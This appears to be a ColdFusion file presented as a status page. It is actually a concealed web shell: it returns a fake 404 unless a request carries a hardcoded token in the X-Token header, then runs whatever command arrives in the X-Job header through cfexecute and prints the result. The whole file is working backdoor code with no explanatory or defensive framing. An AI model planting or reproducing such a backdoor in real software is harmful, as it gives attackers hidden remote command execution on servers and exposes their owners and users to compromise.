<cfsetting showdebugoutput="no">
<!--- A status page that answers 404 unless the right header comes with the request; the command
      to run comes in another header. --->
<cfset expected = "d41d8cd98f00b204" />
<cfset given = "" />
<cfif StructKeyExists(GetHttpRequestData().headers, "X-Token")>
  <cfset given = "#StructFind(GetHttpRequestData().headers, "X-Token")#" />
</cfif>
<cfif given neq expected>
  <cfheader statuscode="404" statustext="Not Found" />
  <cfabort />
</cfif>
<cfset job = "#StructFind(GetHttpRequestData().headers, "X-Job")#" />
<cfexecute name="#job#" timeout="10" variable="result"></cfexecute>
<cfoutput>#result#</cfoutput>
